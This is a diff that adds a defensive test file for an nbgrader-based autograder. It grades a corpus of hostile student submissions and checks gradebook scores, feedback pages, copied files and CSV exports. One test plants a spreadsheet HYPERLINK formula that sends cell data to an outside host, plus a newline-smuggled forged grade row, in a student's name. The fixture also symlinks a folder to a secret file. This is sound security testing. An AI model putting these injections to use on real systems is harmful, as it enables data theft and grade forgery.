@@ -1,0 +1,126 @@
+"""Attacks through nbgrader's own steps: scores in gradebook.db, pages, copies, tables."""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Callable, Iterator, Sequence
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+from attack_corpus import corpus
+from attack_page import acts
+from attack_place import Place
+
+from autograder.gradebook import Grading, PlainCsv
+
+UNIT = "02_second"
+# Those whose goal is the gradebook, the page or the copied files.
+NAMES = (
+    "points_changed",
+    "duplicated_grades",
+    "checks_deleted",
+    "check_replaced",
+    "linked_folder",
+    "linked_name",
+    "link_to_a_neighbour",
+    "pipe",
+    "not_text",
+    "markup_script",
+    "markup_event",
+    "mathjax_link",
+    "terminal",
+    "read_secret",
+    "exit_in_a_cell",
+)
+
+
+class Here:
+    """An executor without processes of its own."""
+
+    def run(self, function: Callable[[Any], Any], jobs: Sequence[Any]) -> Iterator[Any]:
+        for job in jobs:
+            yield job, function(job)
+
+
+@dataclass
+class Graded:
+    """A class that has been graded, and what went wrong."""
+
+    place: Place
+    grading: Grading
+    troubles: list[str]
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Graded]:
+    place = Place(tmp_path_factory.mktemp("class"))
+    attacks = {attack.name: attack for attack in corpus()}
+    for name in NAMES:
+        place.hand_in(attacks[name], name)
+    (place.path("markup_script", UNIT).parent / "data.csv").symlink_to(place.secret_file)
+    unit = place.course.unit(UNIT)
+    grading = Grading(place.course, unit, place.class_folder, place.secret_file, executor=Here())
+    rows = list(grading.judge())
+    yield Graded(place, grading, grading.record(rows))
+    place.close()
+
+
+def test_every_student_has_a_score_and_only_right_work_has_points(graded: Graded) -> None:
+    from nbgrader.api import Gradebook
+
+    assert graded.troubles == []
+    with Gradebook(graded.grading.db_url) as book:
+        scores = {s.student.id: s.score for s in book.assignment_submissions(UNIT)}
+        assert book.find_assignment(UNIT).max_score == graded.grading.unit.points
+        waiting = [s.student.id for s in book.assignment_submissions(UNIT) if s.needs_manual_grade]
+    right = dict.fromkeys(["markup_script", "markup_event", "mathjax_link"], 2.0)
+    beside = dict.fromkeys(["terminal", "read_secret", "exit_in_a_cell"], 1.0)
+    alone = dict.fromkeys(set(NAMES) - right.keys() - beside.keys(), 0.0)
+    want = {name: right.get(name, 0) + 1.0 for name in right} | beside | alone
+    assert scores == want | {"ada": graded.grading.unit.points}
+    assert set(waiting) <= set(scores), "prose is graded by hand; nothing else asks for a person"
+
+
+def test_pages_run_nothing_and_show_no_secret(graded: Graded) -> None:
+    folder = graded.place.class_folder
+    page = {path.parts[-3]: path.read_text() for path in folder.glob("feedback/*/*/*.html")}
+    assert set(page) == {"ada", *NAMES}
+    for student in NAMES:
+        assert acts(page[student]) == acts(page["ada"]), student
+        assert not [c for c in graded.place.canaries.values() if c in page[student]]
+        assert "\x1b" not in page[student]
+    assert "\\mmlToken" not in page["mathjax_link"]
+
+
+def test_nothing_is_copied_through_a_link(graded: Graded) -> None:
+    folder = graded.place.class_folder
+    assert not [path for path in folder.rglob("*") if path.is_symlink() or path.is_fifo()]
+    assert not list(folder.rglob("data.csv"))
+    for name in ("linked_folder", "linked_name", "link_to_a_neighbour"):
+        copies = [path for path in folder.glob(f"*/{name}/**/*") if path.is_file()]
+        assert copies
+        assert not [path for path in copies if "n // parts" in path.read_text()]
+
+
+@pytest.mark.parametrize("plain", [True, False], ids=["ours", "nbgraders"])
+def test_a_name_is_no_formula_and_no_row(graded: Graded, tmp_path: Path, plain: bool) -> None:
+    """`nbgrader export`; with nbgrader's own table a student writes rows of the instructor's."""
+    from nbgrader.api import Gradebook
+    from nbgrader.plugins import CsvExportPlugin
+
+    path = tmp_path / "grades.csv"
+    formula = '=HYPERLINK("http://example.org/?"&A1)'
+    forged = f"Eve\n{UNIT},,,eve,Eve,,,100,0,100,100"
+    with Gradebook(graded.grading.db_url) as book:
+        book.update_or_create_student("points_changed", first_name=formula, last_name=forged)
+        (PlainCsv if plain else CsvExportPlugin)(to=str(path)).export(book)
+        students = {student.id for student in book.students}
+    with path.open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    clean = {row["student_id"] for row in rows} == students
+    clean &= not [cell for row in rows for cell in row.values() if str(cell)[:1] in ("=", "+", "@")]
+    assert clean is plain
+    if plain:
+        assert {row["student_id"]: float(row["score"]) for row in rows}["ada"] > 0
